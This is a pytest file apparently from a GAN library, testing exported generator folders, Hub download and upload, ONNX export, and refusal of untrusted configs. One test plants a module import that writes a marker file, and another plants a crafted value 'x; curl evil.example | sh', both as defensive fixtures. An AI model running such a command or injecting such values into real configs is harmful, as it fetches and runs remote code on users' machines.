"""Exported generators (``lightning_gans.pretrained``, ``lightning-gans export``): every variant's generator
survives the folder round trip, the folder is a Hub model repo (downloaded from a loopback Hub, uploaded up to
the network boundary), and loading one from someone else never runs code."""

from __future__ import annotations

import hashlib
import http.server
import json
import re
import shutil
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import torch
from conftest import ENV, FakeDistributions, cli, run_cli, tiny_recipe
from PIL import Image
from safetensors.torch import load, load_file, save_file

from lightning_gans import registry
from lightning_gans.checkpoints import is_pretrained_source, load_translation, load_variant
from lightning_gans.cli import main
from lightning_gans.core.module import GenerativeModule
from lightning_gans.core.translation import TranslationModule
from lightning_gans.errors import UntrustedCheckpointError
from lightning_gans.inference import CaptionSampling
from lightning_gans.pretrained import (
    Pretrained,
    PretrainedGenerator,
    PretrainedTextGenerator,
    PretrainedTranslator,
    from_pretrained,
)
from lightning_gans.variants.dcgan import DCGAN

# the contract test's small nets (as in test_contracts: CycleGAN's and SRGAN's default nets are slow on CPU)
SMALL_RESNET = {"class_path": "resnet", "init_args": {"width": 8, "n_blocks": 1}}
SMALL_NETS: dict[str, dict[str, Any]] = {
    "cyclegan": {"generator": SMALL_RESNET, "generator_ba": SMALL_RESNET},
    "srgan": {"generator": {"class_path": "srresnet", "init_args": {"width": 8, "n_blocks": 1}},
              "discriminator": {"class_path": "srgan", "init_args": {"width": 8}}, "content_loss": "pixel"},
}  # fmt: skip
IMAGES = torch.rand(3, 1, 28, 28, generator=torch.Generator().manual_seed(0)) * 2 - 1


def hyper_parameters(name: str, arguments: dict[str, Any]) -> dict[str, Any]:
    """What ``lightning-gans fit`` stores for a variant built from a recipe with these arguments."""
    return {"_class_path": registry.variants.entry(name).class_path, **arguments}


def outputs(model: Any, name: str) -> torch.Tensor:
    if isinstance(model, (TranslationModule, PretrainedTranslator)):
        images = torch.nn.functional.avg_pool2d(IMAGES, 2) if name == "srgan" else IMAGES
        return model.translate(images)
    if isinstance(model, CaptionSampling):
        return model.generate_text(torch.randn(3, model.latent_dim, generator=torch.Generator().manual_seed(1)),
                                   ["a dark dress", "a light bag", "a sandal"])  # fmt: skip
    return model.sample(3, seed=1)


@pytest.mark.parametrize("name", registry.variants.names())
def test_every_variant_exports_a_folder_that_samples_exactly_like_it(name: str, tmp_path: Path) -> None:
    """Built with a recipe's arguments, perturbed away from its initialisation (so that the EMA and the trained
    generator differ), exported, reloaded: the same samples (or translations), to 1e-6 (bit for bit for the
    convolutional nets; the text encoder's GRU, with the same weights in a fresh module, differed by 7e-8)."""
    torch.manual_seed(0)
    arguments = SMALL_NETS.get(name, {})
    model = registry.variants.create(name, **arguments).eval()
    with torch.no_grad():
        for parameter in model.parameters():
            parameter.add_(0.01 * torch.randn_like(parameter))
    if isinstance(model, CaptionSampling):
        model.grid_captions = ["a dark dress"]
    exported = Pretrained.from_module(model, hyper_parameters(name, arguments), training={"generator_steps": 0})
    exported.save_pretrained(tmp_path / "folder")
    written = {p.name for p in (tmp_path / "folder").iterdir()}
    grid = {"samples.png"} if exported.draws_sample_grid else set()
    assert written == {"model.safetensors", "config.json", "README.md"} | grid
    config = json.loads((tmp_path / "folder" / "config.json").read_text())
    # every net is described by its registry name and full arguments, presets included
    assert all("built_by_variant" not in spec for spec in config["nets"].values())
    assert config["parameters"]["generator"] == sum(p.numel() for p in exported.generator.parameters())
    assert config["output"]["value_range"] == [-1.0, 1.0]
    loaded = from_pretrained(tmp_path / "folder")
    assert type(loaded) is type(exported)
    torch.testing.assert_close(outputs(loaded, name), outputs(model, name), rtol=0, atol=1e-6)
    if isinstance(model, GenerativeModule):
        assert loaded.latent_dim == model.latent_dim and loaded.num_classes == model.num_classes  # type: ignore[attr-defined]


def test_the_ema_generator_is_exported_when_the_run_kept_one(tmp_path: Path) -> None:
    model = DCGAN(ema_decay=0.9).eval()
    with torch.no_grad():
        for parameter in model.generator.parameters():  # the trained generator moves; its average does not
            parameter.add_(0.1)
    arguments = {"ema_decay": 0.9}
    Pretrained.from_module(model, hyper_parameters("dcgan", arguments)).save_pretrained(tmp_path)
    loaded = from_pretrained(tmp_path)
    assert torch.equal(loaded.sample(4, seed=0), model.sample(4, seed=0))  # type: ignore[operator]
    with torch.no_grad():
        trained = model.generator.eval()(torch.randn(4, model.latent_dim, generator=torch.Generator().manual_seed(0)))
    assert not torch.allclose(loaded.sample(4, seed=0), trained)  # type: ignore[operator]
    assert "exponential moving average" in json.loads((tmp_path / "config.json").read_text())["weights"]


# -- the export command, end to end ---------------------------------------------------------------------------
@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A tiny DCGAN run (EMA on) through `lightning-gans fit`, with its config.yaml beside the checkpoints."""
    folder = tmp_path_factory.mktemp("run")
    assert main(["fit", "--config", str(tiny_recipe(folder, folder / "run", epochs=1))]) == 0
    return folder / "run"


@pytest.fixture(scope="module")
def exported(run: Path) -> Path:
    out = run.parent / "exported"
    code = main(["export", "--ckpt", str(run / "checkpoints/last.ckpt"), "--out", str(out), "--metrics", "fid,kid",
                 "--n_fake", "60", "--n_real", "60"])  # fmt: skip
    assert code == 0
    return out


def test_export_writes_weights_config_and_a_model_card_with_metrics_and_protocol(run: Path, exported: Path) -> None:
    assert {p.name for p in exported.iterdir()} == {"model.safetensors", "config.json", "README.md", "samples.png"}
    # one file mode for the folder (safetensors alone wrote its file 0600)
    assert len({(p.stat().st_mode & 0o777) for p in exported.iterdir()}) == 1
    config = json.loads((exported / "config.json").read_text())
    assert config["variant"] == "dcgan" and config["task"] == "latent"
    generator = config["nets"]["generator"]
    assert generator["class_path"] == "dcgan"  # a registry name, not an import path
    assert generator["init_args"].items() >= {"latent_dim": 16, "image_size": 28, "width": 8}.items()
    checkpoint = torch.load(run / "checkpoints/last.ckpt", weights_only=True)
    assert config["training"]["generator_steps"] == checkpoint["lightning_gans"]["generator_steps"] == 12
    assert config["training"]["data"]["class_path"] == "fashion_mnist"
    assert config["training"]["epochs"] == checkpoint["epoch"] + 1  # the run's one epoch, trained to its end
    assert config["training"]["loss"] == {"class_path": "non_saturating", "init_args": {}}  # named as the nets are
    assert config["output"] == {"shape": [1, 28, 28], "value_range": [-1.0, 1.0]}
    metrics = config["metrics"]
    assert set(metrics["results"]) >= {"fid", "kid"} and metrics["results"]["fid"] > 0
    protocol = metrics["protocol"]
    assert protocol["feature_network"] == "fashion_classifier" and protocol["n_real"] == protocol["n_fake"] == 60
    card = (exported / "README.md").read_text()
    assert card.startswith("---\n") and "\nlibrary_name: lightning-gans\n" in card  # the Hub reads this block
    assert "pipeline_tag: unconditional-image-generation" in card
    assert f"| fid | {metrics['results']['fid']:.4g} |" in card
    assert "feature_network: fashion_classifier" in card and "n_real: 60" in card and "n_fake: 60" in card
    assert "| generator steps | 12 |" in card and "fashion_mnist" in card
    # only the generator: not the discriminator, not the optimisers
    weights = load_file(exported / "model.safetensors")
    assert weights and all(key.startswith("generator.") for key in weights)
    assert (exported / "model.safetensors").stat().st_size < (run / "checkpoints/last.ckpt").stat().st_size / 2


def test_the_model_card_round_trips_through_the_hubs_own_readers(exported: Path) -> None:
    from huggingface_hub import ModelCard
    from huggingface_hub.repocard import metadata_load

    config = json.loads((exported / "config.json").read_text())
    card = ModelCard.load(exported / "README.md")
    metadata = metadata_load(exported / "README.md")
    assert metadata is not None and card.data.to_dict() == metadata
    assert metadata["library_name"] == "lightning-gans" and metadata["license"] == "mit"
    assert metadata["pipeline_tag"] == "unconditional-image-generation"
    assert metadata["datasets"] == ["zalando-datasets/fashion_mnist"]
    assert {"lightning-gans", "gan", "dcgan"} <= set(metadata["tags"])
    results = {r.metric_type: r.metric_value for r in card.data.eval_results}
    assert results == pytest.approx({k: v for k, v in config["metrics"]["results"].items() if k in results})
    assert set(results) >= {"fid"} and all(r.dataset_type == "zalando-datasets/fashion_mnist"
                                            for r in card.data.eval_results)  # fmt: skip
    assert "arXiv:1511.06434" in card.text and "![samples drawn with seed 0](samples.png)" in card.text
    assert f"{config['parameters']['generator']:,}" in card.text


def test_a_class_conditional_model_is_not_tagged_unconditional(tmp_path: Path) -> None:
    from huggingface_hub.repocard import metadata_load

    model = registry.variants.create("cgan").eval()
    Pretrained.from_module(model, hyper_parameters("cgan", {})).save_pretrained(tmp_path)
    metadata = metadata_load(tmp_path / "README.md")
    assert metadata is not None and "pipeline_tag" not in metadata
    assert "class-conditional-image-generation" in metadata["tags"]
    generator = json.loads((tmp_path / "config.json").read_text())["nets"]["generator"]
    assert generator["class_path"] == "dcgan" and generator["init_args"]["num_classes"] == 10  # the preset's net


def test_sample_and_evaluate_take_the_folder_as_they_take_the_checkpoint(
    run: Path, exported: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    ckpt = str(run / "checkpoints/last.ckpt")
    for source, png in ((ckpt, "from_checkpoint.png"), (str(exported), "from_folder.png")):
        code, _ = run_cli(["sample", "--ckpt", source, "--n", "8", "--truncation", "1.5", "--out",
                           str(tmp_path / png)], capsys)  # fmt: skip
        assert code == 0
    with Image.open(tmp_path / "from_checkpoint.png") as a, Image.open(tmp_path / "from_folder.png") as b:
        assert a.tobytes() == b.tobytes()
    code, out = run_cli(["evaluate", "--ckpt", str(exported), "--metrics", "fid", "--n_fake", "40", "--n_real", "40",
                         "--out", str(tmp_path / "evaluation.json")], capsys)  # fmt: skip
    assert code == 0, out
    report = json.loads((tmp_path / "evaluation.json").read_text())
    assert "FashionMNISTDataModule" in report["protocol"]["real_split"]  # the data named in config.json


def test_export_never_writes_over_a_folder_unasked(
    run: Path, exported: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    ckpt = str(run / "checkpoints/last.ckpt")
    before = {p.name: p.read_bytes() for p in exported.iterdir()}
    code, out = run_cli(["export", "--ckpt", ckpt, "--out", str(exported), "--metrics", "none"], capsys)
    assert code == 2 and "holds an export already" in out and "--overwrite" in out
    assert {p.name: p.read_bytes() for p in exported.iterdir()} == before
    mixed = tmp_path / "mixed"  # a folder with other files is never emptied, even with --overwrite
    mixed.mkdir()
    (mixed / "notes.txt").write_text("mine")
    code, out = run_cli(["export", "--ckpt", ckpt, "--out", str(mixed), "--metrics", "none", "--overwrite"], capsys)
    assert code == 2 and "holds files other than an export's (notes.txt)" in out
    assert [p.name for p in mixed.iterdir()] == ["notes.txt"]
    replaced = tmp_path / "replaced"
    shutil.copytree(exported, replaced)
    code, out = run_cli(["export", "--ckpt", ckpt, "--out", str(replaced), "--metrics", "none", "--overwrite"], capsys)
    assert code == 0, out
    assert "Not measured at export" in (replaced / "README.md").read_text()
    # an ONNX file that fails its check is refused, and the earlier export stays as it was
    pytest.importorskip("onnxscript", reason="the onnx extra is not installed")
    import lightning_gans.onnx_export as onnx_export

    monkeypatch.setattr(onnx_export, "export_and_check", lambda generator, path: 0.5)
    kept = {p.name: p.read_bytes() for p in replaced.iterdir()}
    code, out = run_cli(["export", "--ckpt", ckpt, "--out", str(replaced), "--metrics", "none", "--overwrite",
                         "--format", "onnx"], capsys)  # fmt: skip
    assert code == 2 and "differ from PyTorch's by up to 0.5" in out
    assert {p.name: p.read_bytes() for p in replaced.iterdir()} == kept
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".replaced.")]  # no staging folder left


def test_a_progan_exported_while_growing_samples_at_its_resolution(tmp_path: Path) -> None:
    torch.manual_seed(0)
    model = registry.variants.create("progan", images_per_stage=100, fade_images=100).eval()
    model.images_seen.fill_(150)  # half-way through fading in the second resolution
    model.apply_growth()
    level, alpha = model.growth()
    assert level == 1 and 0 < alpha < 1
    arguments = {"images_per_stage": 100, "fade_images": 100}
    Pretrained.from_module(model, hyper_parameters("progan", arguments)).save_pretrained(tmp_path)
    assert json.loads((tmp_path / "config.json").read_text())["nets"]["generator"]["growth"] == {
        "level": 1, "alpha": alpha}  # fmt: skip
    torch.testing.assert_close(from_pretrained(tmp_path).sample(2, seed=0), model.sample(2, seed=0), rtol=0, atol=0)  # type: ignore[operator]


def test_translate_takes_an_exported_image_to_image_folder(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    torch.manual_seed(0)
    model = registry.variants.create("cyclegan", **SMALL_NETS["cyclegan"]).eval()
    Pretrained.from_module(model, hyper_parameters("cyclegan", SMALL_NETS["cyclegan"])).save_pretrained(tmp_path / "m")
    loaded = load_translation(tmp_path / "m")
    assert torch.equal(loaded.translate_back(IMAGES), model.translate_back(IMAGES))  # type: ignore[operator]
    Image.fromarray(((IMAGES[0, 0] + 1) * 127.5).byte().numpy()).save(tmp_path / "a.png")
    code, out = run_cli(["translate", "--ckpt", str(tmp_path / "m"), "--input", str(tmp_path / "a.png"), "--out",
                         str(tmp_path / "out"), "--reverse"], capsys)  # fmt: skip
    assert code == 0, out
    assert (tmp_path / "out/a.png").is_file()
    code, out = run_cli(["sample", "--ckpt", str(tmp_path / "m"), "--out", str(tmp_path / "x.png")], capsys)
    assert code == 2 and "lightning-gans translate --ckpt" in out


# -- from someone else ----------------------------------------------------------------------------------------
@pytest.fixture
def folder(tmp_path: Path) -> Path:
    torch.manual_seed(0)
    Pretrained.from_module(DCGAN(), hyper_parameters("dcgan", {})).save_pretrained(tmp_path / "folder")
    return tmp_path / "folder"


def test_a_config_naming_a_module_outside_the_registry_is_refused_without_importing_it(
    folder: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    marker = tmp_path / "imported"
    (tmp_path / "site").mkdir()
    (tmp_path / "site/evil_nets.py").write_text(f"import pathlib\npathlib.Path({str(marker)!r}).touch()\n"
                                                "class Generator:\n    pass\n")  # fmt: skip
    monkeypatch.syspath_prepend(str(tmp_path / "site"))
    config = json.loads((folder / "config.json").read_text())
    config["nets"]["generator"] = {"class_path": "evil_nets.Generator", "init_args": {}}
    (folder / "config.json").write_text(json.dumps(config))
    with pytest.raises(UntrustedCheckpointError, match="evil_nets.Generator"):
        from_pretrained(folder)
    evil_loss = {"loss": {"class_path": "evil_nets.Generator"}}
    config["nets"]["generator"] = {"built_by_variant": {"class_path": "dcgan", "init_args": evil_loss}}
    (folder / "config.json").write_text(json.dumps(config))
    with pytest.raises(UntrustedCheckpointError, match="evil_nets.Generator"):
        from_pretrained(folder)
    assert not marker.exists()


def test_a_config_naming_a_registered_part_of_another_kind_or_a_bare_class_name_is_refused(folder: Path) -> None:
    """A feature network is registered, but not as a generator; a bare class name would be looked up among every
    class imported so far. Neither is built."""
    config = json.loads((folder / "config.json").read_text())
    attempts = [
        {"class_path": "lightning_gans.metrics.features.InceptionV3", "init_args": {"weights_path": "x.pt"}},
        {"built_by_variant": {"class_path": "lightning_gans.nets.dcgan.DCGANGenerator"}},
        {"built_by_variant": {"class_path": "dcgan", "init_args": {"generator": {"class_path": "FashionClassifier"}}}},
    ]
    for generator in attempts:
        config["nets"]["generator"] = generator
        (folder / "config.json").write_text(json.dumps(config))
        with pytest.raises(UntrustedCheckpointError):
            from_pretrained(folder)
    config["nets"]["generator"] = {"class_path": "fashion_classifier"}  # a feature network's registry name
    (folder / "config.json").write_text(json.dumps(config))
    with pytest.raises(registry.UnknownNameError, match="unknown generator 'fashion_classifier'. It may come from a"):
        from_pretrained(folder)
    config["nets"] = {"generator": {"class_path": "dcgan"}, "training": {"class_path": "dcgan"}}
    (folder / "config.json").write_text(json.dumps(config))
    with pytest.raises(ValueError, match="unknown nets"):
        from_pretrained(folder)


def test_bad_folders_get_errors_that_name_the_file(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    weights = folder / "model.safetensors"
    good = weights.read_bytes()
    weights.write_bytes(good[: len(good) // 2])  # cut off: a download that stopped
    with pytest.raises(ValueError, match="model.safetensors is not a safetensors file, or it is damaged"):
        from_pretrained(folder)
    torch.save({"generator.net.0.weight": torch.zeros(1)}, weights)  # a pickle under the safetensors name
    code, out = run_cli(["sample", "--ckpt", str(folder), "--out", str(folder / "x.png")], capsys)
    assert code == 2 and "is not a safetensors file" in out and "Traceback" not in out
    tensors = {
        key: value.fill_(float("nan")) if value.is_floating_point() else value for key, value in load(good).items()
    }
    save_file(tensors, weights)
    with pytest.raises(ValueError, match="NaN or infinite"):
        from_pretrained(folder)
    save_file({"generator.unknown": torch.zeros(1)}, weights)
    with pytest.raises(ValueError, match="does not fit the nets"):
        from_pretrained(folder)
    config = json.loads((folder / "config.json").read_text())
    for edit in ({"width": "wide"}, {"width": -3}, {"depth": 4}):  # a wrong type, a bad value, an unknown key
        edited = json.loads(json.dumps(config))
        edited["nets"]["generator"]["init_args"].update(edit)
        (folder / "config.json").write_text(json.dumps(edited))
        with pytest.raises(ValueError, match=r"^config.json: nets.generator: dcgan cannot be built from its init_args"):
            from_pretrained(folder)
        code, out = run_cli(["sample", "--ckpt", str(folder), "--out", str(folder / "x.png")], capsys)
        assert code == 2 and "it takes latent_dim, channels" in out and "Traceback" not in out
    (folder / "config.json").unlink()
    with pytest.raises(ValueError, match="has no config.json"):
        from_pretrained(folder)


def test_checkpoints_folders_and_hub_ids_are_told_apart(tmp_path: Path) -> None:
    (tmp_path / "run.ckpt").write_bytes(b"")
    assert is_pretrained_source(tmp_path)
    assert is_pretrained_source("owner/model-name")
    assert not is_pretrained_source(tmp_path / "run.ckpt")
    assert not is_pretrained_source("runs/x/checkpoints/last.ckpt")  # missing: reported as a missing file
    with pytest.raises(FileNotFoundError, match="no checkpoint at"):
        load_variant("runs/x/checkpoints/last.ckpt")


# -- the Hub -------------------------------------------------------------------------------------------------
COMMIT = "0123456789abcdef0123456789abcdef01234567"


@pytest.fixture
def loopback_hub(folder: Path) -> Iterator[tuple[str, list[str]]]:
    """A loopback server that answers as the Hub's file endpoint (``/owner/model/resolve/REV/FILE``) with
    ``folder``'s files: what ``hf_hub_download`` asks of huggingface.co. Yields (endpoint, paths asked for)."""
    asked: list[str] = []

    class Hub(http.server.BaseHTTPRequestHandler):
        def answer(self, body: bool) -> None:
            asked.append(self.path)
            match = re.fullmatch(r"/owner/model/resolve/[^/]+/(.+)", self.path.split("?")[0])
            path = folder / match[1] if match else None
            if path is None or not path.is_file():
                self.send_response(404)
                self.send_header("X-Error-Code", "EntryNotFound")
                self.end_headers()
                return
            data = path.read_bytes()
            self.send_response(200)
            self.send_header("Content-Length", str(len(data)))
            self.send_header("ETag", f'"{hashlib.sha256(data).hexdigest()}"')
            self.send_header("X-Repo-Commit", COMMIT)
            self.end_headers()
            if body:
                self.wfile.write(data)

        def do_HEAD(self) -> None:  # noqa: N802 (http.server's names)
            self.answer(body=False)

        def do_GET(self) -> None:  # noqa: N802
            self.answer(body=True)

        def log_message(self, *args: Any) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Hub)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", asked
    server.shutdown()


def test_sample_takes_a_hub_id_and_downloads_the_folder(
    loopback_hub: tuple[str, list[str]], folder: Path, tmp_path: Path
) -> None:
    endpoint, asked = loopback_hub
    env = {**ENV, "HF_ENDPOINT": endpoint, "HF_HOME": str(tmp_path / "hf_home"), "HF_HUB_DISABLE_TELEMETRY": "1"}
    done = subprocess.run(cli("sample", "--ckpt", "owner/model", "--n", "4", "--out", str(tmp_path / "hub.png")),
                          env=env, capture_output=True, text=True, cwd=tmp_path, timeout=300)  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert any(p.endswith("/model.safetensors") for p in asked) and any(p.endswith("/config.json") for p in asked)
    from lightning_gans.images import save_samples

    save_samples(from_pretrained(folder).sample(4, seed=0), tmp_path / "local.png")  # type: ignore[operator]
    with Image.open(tmp_path / "hub.png") as a, Image.open(tmp_path / "local.png") as b:
        assert a.tobytes() == b.tobytes()
    missing = subprocess.run(cli("sample", "--ckpt", "owner/other", "--out", str(tmp_path / "x.png")), env=env,
                             capture_output=True, text=True, cwd=tmp_path, timeout=300)  # fmt: skip
    assert missing.returncode == 2 and "owner/other" in missing.stderr and "Traceback" not in missing.stderr


def test_push_to_hub_uploads_the_exported_folder_as_it_is(
    folder: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Up to the network boundary: the Hub client's create_repo and upload_folder are where bytes would leave."""
    from huggingface_hub import HfApi

    calls: list[tuple[str, Any]] = []
    uploaded = tmp_path / "uploaded"

    def create_repo(self: HfApi, repo_id: str, private: bool | None = None, **options: Any) -> Any:
        calls.append(("create_repo", (repo_id, private)))
        return type("RepoUrl", (), {"repo_id": repo_id})()

    def upload_folder(self: HfApi, repo_id: str, folder_path: Path, **options: Any) -> str:
        calls.append(("upload_folder", repo_id))
        shutil.copytree(folder_path, uploaded)
        return f"https://huggingface.co/{repo_id}/commit/{COMMIT}"

    monkeypatch.setattr(HfApi, "create_repo", create_repo)
    monkeypatch.setattr(HfApi, "upload_folder", upload_folder)
    model = from_pretrained(folder)
    url = model.push_to_hub("owner/model", private=True)
    assert url.endswith(COMMIT)
    assert calls == [("create_repo", ("owner/model", True)), ("upload_folder", "owner/model")]
    files = {p.name: p.read_bytes() for p in uploaded.iterdir()}
    assert "from_pretrained('owner/model')" in files.pop("README.md").decode()  # the usage names the repo
    assert files == {p.name: p.read_bytes() for p in folder.iterdir() if p.name != "README.md"}


def test_export_push_to_hub_from_the_command_line(
    run: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    pushed: list[str] = []
    monkeypatch.setattr(Pretrained, "push_to_hub", lambda self, repo_id, private=None: pushed.append(repo_id) or "url")
    code, out = run_cli(["export", "--ckpt", str(run / "checkpoints/last.ckpt"), "--out", str(tmp_path / "m"),
                         "--metrics", "none", "--push_to_hub", "me/tiny-dcgan"], capsys)  # fmt: skip
    assert code == 0, out
    assert pushed == ["me/tiny-dcgan"] and "uploaded to the Hub: url" in out


def test_an_upload_that_cannot_reach_the_hub_says_so_in_one_paragraph_and_keeps_the_folder(
    run: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from huggingface_hub import HfApi

    def unreachable(self: HfApi, *args: Any, **options: Any) -> Any:
        raise ConnectionError("Failed to resolve 'huggingface.co'")

    monkeypatch.setattr(HfApi, "create_repo", unreachable)
    code, out = run_cli(["export", "--ckpt", str(run / "checkpoints/last.ckpt"), "--out", str(tmp_path / "m"),
                         "--metrics", "none", "--push_to_hub", "me/tiny-dcgan"], capsys)  # fmt: skip
    assert code == 2 and "Traceback" not in out
    assert "me/tiny-dcgan" in out and "was written" in out and "hf upload me/tiny-dcgan" in out
    assert (tmp_path / "m" / "model.safetensors").is_file()


def test_the_loaded_types_follow_the_task(folder: Path) -> None:
    assert isinstance(from_pretrained(folder), PretrainedGenerator)
    with pytest.raises(TypeError, match="holds a PretrainedGenerator, not a PretrainedTranslator"):
        PretrainedTranslator.from_pretrained(folder)
    assert issubclass(PretrainedTextGenerator, PretrainedGenerator)


def test_export_format_onnx_adds_a_checked_model_onnx(
    run: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    pytest.importorskip("onnxruntime", reason="the onnx extra is not installed")
    pytest.importorskip("onnxscript", reason="the onnx extra is not installed")
    from lightning_gans.onnx_export import onnx_outputs

    out = tmp_path / "onnx"
    code, text = run_cli(["export", "--ckpt", str(run / "checkpoints/last.ckpt"), "--out", str(out), "--metrics",
                          "none", "--format", "onnx"], capsys)  # fmt: skip
    assert code == 0, text
    assert {p.name for p in out.iterdir()} == {
        "model.safetensors",
        "config.json",
        "README.md",
        "samples.png",
        "model.onnx",
    }
    record = json.loads((out / "config.json").read_text())["onnx"]
    assert record["inputs"] == ["z"] and record["max_abs_difference_vs_pytorch"] <= 1e-4
    import onnxruntime

    properties = onnxruntime.InferenceSession(str(out / "model.onnx")).get_modelmeta().custom_metadata_map
    assert properties["lightning_gans.variant"] == "dcgan" and properties["lightning_gans.latent_dim"] == "16"
    assert properties["lightning_gans.num_classes"] == "0" and properties["lightning_gans.value_range"] == "[-1, 1]"
    assert json.loads(properties["lightning_gans.dynamic_axes"]) == record["dynamic_axes"] == {"z": ["batch"]}
    model = from_pretrained(out)
    z = torch.randn(7, model.latent_dim, generator=torch.Generator().manual_seed(3))  # type: ignore[arg-type]
    torch.testing.assert_close(onnx_outputs(out / "model.onnx", (z,)), model.generate(z), rtol=0, atol=1e-4)  # type: ignore[operator]


def test_a_cyclegan_exports_both_generators_to_onnx(tmp_path: Path) -> None:
    """model.onnx translates A -> B and model_ba.onnx B -> A, each with free height and width, each recorded in
    config.json and kept out of it when the folder is saved again without them."""
    pytest.importorskip("onnxruntime", reason="the onnx extra is not installed")
    pytest.importorskip("onnxscript", reason="the onnx extra is not installed")
    from lightning_gans.export import write_onnx
    from lightning_gans.onnx_export import onnx_outputs

    torch.manual_seed(0)
    model = registry.variants.create("cyclegan", **SMALL_NETS["cyclegan"]).eval()
    exported = Pretrained.from_module(model, hyper_parameters("cyclegan", SMALL_NETS["cyclegan"]))
    folder = tmp_path / "folder"
    folder.mkdir()
    exported.config["onnx"] = write_onnx(exported, folder)
    exported.save_pretrained(folder)
    record = json.loads((folder / "config.json").read_text())["onnx"]
    assert record["file"] == "model.onnx" and record["generator_ba"]["file"] == "model_ba.onnx"
    assert record["generator_ba"]["dynamic_axes"] == {"image": ["batch", "height", "width"]}
    loaded = from_pretrained(folder)
    assert isinstance(loaded, PretrainedTranslator)
    images = torch.rand(2, 1, 32, 20, generator=torch.Generator().manual_seed(2)) * 2 - 1  # not the traced size
    torch.testing.assert_close(onnx_outputs(folder / "model.onnx", (images,)), loaded.translate(images),
                               rtol=0, atol=1e-4)  # fmt: skip
    torch.testing.assert_close(onnx_outputs(folder / "model_ba.onnx", (images,)), loaded.translate_back(images),
                               rtol=0, atol=1e-4)  # fmt: skip
    (folder / "model_ba.onnx").unlink()
    loaded.save_pretrained(tmp_path / "again")
    assert "onnx" not in json.loads((tmp_path / "again/config.json").read_text())


# -- plugins' parts and 2-D models -------------------------------------------------------------------------------
PLUGIN_NET = """
from torch import nn
class TinyGenerator(nn.Module):
    def __init__(self, latent_dim: int = 4):
        super().__init__()
        self.latent_dim = latent_dim
        self.net = nn.Linear(latent_dim, 784)
    def forward(self, z):
        return self.net(z).tanh().view(-1, 1, 28, 28)
"""


def test_the_folder_records_which_distribution_provided_each_part_and_names_a_missing_one(
    fake_dists: FakeDistributions, tmp_path: Path
) -> None:
    fake_dists.add("lightning-gans-tiny", {"lightning_gans.generators": {"tiny": "tiny_plugin:TinyGenerator"}},
                   {"tiny_plugin": PLUGIN_NET})  # fmt: skip
    registry.generators.refresh()
    model = registry.variants.create("gan", generator="tiny")
    Pretrained.from_module(model, hyper_parameters("gan", {"generator": "tiny"})).save_pretrained(tmp_path / "out")
    config = json.loads((tmp_path / "out/config.json").read_text())
    assert config["provided_by"]["generator"] == "lightning-gans-tiny 1.0"
    assert config["provided_by"]["variant"].startswith("lightning-gans ")
    card = (tmp_path / "out/README.md").read_text()
    assert "generator: `lightning-gans-tiny 1.0`" in card and "pip install lightning-gans lightning-gans-tiny\n" in card

    shutil.rmtree(fake_dists.site / "lightning_gans_tiny-1.0.dist-info")  # the plugin is not installed here
    registry.generators.refresh()
    with pytest.raises(registry.UnknownNameError) as info:
        from_pretrained(tmp_path / "out")
    message = str(info.value)
    assert message.startswith("unknown generator 'tiny'.")
    assert "It was provided by the distribution 'lightning-gans-tiny 1.0', which is not installed here" in message
    assert "pip install lightning-gans-tiny" in message and "nets.generator" in message


TINY_RING = """\
seed_everything: 0
trainer:
  default_root_dir: {root}
  max_epochs: 1
  limit_train_batches: 4
  limit_val_batches: 1
  logger: false
  enable_progress_bar: false
  enable_model_summary: false
  callbacks: [{{class_path: lightning_gans.callbacks.LastCheckpoint}}]
model:
  class_path: gan
  init_args:
    generator: {{class_path: mlp, init_args: {{latent_dim: 2, out_shape: [2], hidden: [16], output_activation: none}}}}
    discriminator: {{class_path: mlp, init_args: {{in_shape: [2], hidden: [16]}}}}
data:
  class_path: gaussian_mixture
  init_args: {{num_train: 256, num_val: 64, batch_size: 32}}
"""


def test_a_2d_model_exports_by_default_without_image_metrics_saying_so(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    recipe = tmp_path / "ring.yaml"
    recipe.write_text(TINY_RING.format(root=tmp_path / "run"))
    assert main(["fit", "--config", str(recipe)]) == 0
    capsys.readouterr()
    code, out = run_cli(["export", "--ckpt", str(tmp_path / "run/checkpoints/last.ckpt"), "--out",
                         str(tmp_path / "out")], capsys)  # fmt: skip
    assert code == 0, out
    assert "the generator draws 2-D points, not images, so the default metrics (fid,kid" in out
    config = json.loads((tmp_path / "out/config.json").read_text())
    assert config["metrics"] is None and config["output"]["shape"] == [2]
    assert "the generator draws points or vectors" in (tmp_path / "out/README.md").read_text()


def test_a_crafted_provided_by_record_is_not_repeated_as_an_install_command(folder: Path) -> None:
    """config.json comes from whoever wrote the folder: a record that is not a plain "name version" (here a shell
    command) is not offered to the user as something to pip install, in the error or in the model card."""
    config = json.loads((folder / "config.json").read_text())
    crafted = "x; curl evil.example | sh 1.0"
    config["nets"]["generator"] = {"class_path": "not_installed_net", "init_args": {}}
    config["provided_by"] = {"generator": crafted, "variant": crafted}
    (folder / "config.json").write_text(json.dumps(config))
    with pytest.raises(registry.UnknownNameError) as info:
        from_pretrained(folder)
    assert "curl" not in str(info.value) and "may come from a plugin" in str(info.value)
    from lightning_gans.model_card import model_card

    card = str(model_card(config))
    assert "curl" not in card
